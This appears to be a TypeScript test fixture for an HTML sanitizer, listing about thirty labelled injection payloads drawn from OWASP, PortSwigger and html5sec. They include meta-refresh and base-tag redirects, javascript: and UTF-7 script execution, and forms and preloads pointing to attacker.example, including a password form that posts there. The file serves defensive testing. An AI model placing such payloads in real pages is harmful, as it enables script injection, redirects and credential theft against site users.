import type { Attack } from './attack';

/** Elements that belong to the document, and forms: the page goes, or speaks, elsewhere. */
export const documents: readonly Attack[] = [
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://attacker.example/">', 'OWASP'],
  [
    'a refresh of script',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    'OWASP',
  ],
  [
    'a refresh of data',
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">',
    'OWASP',
  ],
  [
    'a refresh with two addresses',
    '<meta http-equiv="refresh" content="0; URL=https://;URL=https://attacker.example/">',
    'OWASP',
  ],
  [
    'a refresh without a name',
    '<meta http-equiv="refresh" content="0,https://attacker.example/">',
    'sanitize-html',
  ],
  ['a cookie', '<meta http-equiv="Set-Cookie" content="USERID=x">', 'OWASP'],
  [
    'a set of characters',
    '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    'OWASP',
  ],
  [
    'a policy',
    '<meta http-equiv="Content-Security-Policy" content="img-src \'none\'"><img src="https://pictures.example/a.png" alt="x">',
    'PortSwigger',
  ],
  [
    'a referrer',
    '<meta name=referrer content=unsafe-url><img src="https://attacker.example/p.png">',
    'Zalewski',
  ],
  [
    'a base',
    '<base href="https://attacker.example/"><a href="connexion">Se connecter</a><img src=x.png alt=y>',
    'OWASP',
  ],
  ['a base of script', '<base href="javascript:alert(1);//"><a href="#">x</a>', 'OWASP'],
  ['a base with a target', '<base target="x"><a href="/annonces">x</a>', 'Zalewski'],
  [
    'a form',
    '<form action="https://attacker.example/"><input name=password type=password><button>Se connecter</button></form>',
    'Zalewski',
  ],
  ['a form of script', '<form action="javascript:alert(1)"><input type=submit></form>', 'OWASP'],
  [
    'a form of script, by its button',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    'html5sec',
  ],
  [
    'a form of script, by its picture',
    '<form><input type=image src=x formaction="javascript:alert(1)"></form>',
    'html5sec',
  ],
  [
    'a form elsewhere in the page',
    '<form id=f action="https://attacker.example/"></form><button form=f>x</button>',
    'html5sec',
  ],
  ['a form of old', '<isindex action="javascript:alert(1)" type=submit value=x>', 'html5sec'],
  [
    'a search in the page',
    '<form action="https://attacker.example/"><input type=image alt="Rechercher"></form>',
    'Zalewski',
  ],
  [
    'a dialog',
    '<dialog open style="position:fixed;inset:0"><form method=dialog action="javascript:alert(1)"><button formmethod=get>x</button></form></dialog>',
    'PortSwigger',
  ],
  ['an import', '<link rel=import href="https://attacker.example/x.html">', 'html5sec'],
  ['a preload', '<link rel=preload as=script href="https://attacker.example/x.js">', 'PortSwigger'],
  [
    'a module ahead',
    '<link rel=modulepreload href="https://attacker.example/x.mjs">',
    'PortSwigger',
  ],
  ['an icon', '<link rel=icon href="https://attacker.example/i">', 'PortSwigger'],
  ['a name looked up', '<link rel=dns-prefetch href="//secret.attacker.example">', 'Zalewski'],
  ['another manifest', '<link rel=manifest href="https://attacker.example/m.json">', 'PortSwigger'],
  ['another canonical', '<link rel=canonical href="https://attacker.example/">', 'ours'],
  ['a head', '<head><base href="https://attacker.example/"></head><a href=x>x</a>', 'HTML'],
  [
    'a document',
    '<html manifest="https://attacker.example/x" onclick=alert(1)><body onclick=alert(1)>x',
    'html5sec',
  ],
  ['an end of document', '</body></html><script>alert(1)</script>', 'HTML'],
  [
    'frames',
    '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset><p onclick=alert(1)>x',
    'OWASP',
  ],
  [
    'speculation',
    '<script type="speculationrules">{"prefetch":[{"urls":["https://attacker.example/"]}]}</script><script>alert(1)</script>',
    'PortSwigger',
  ],
];
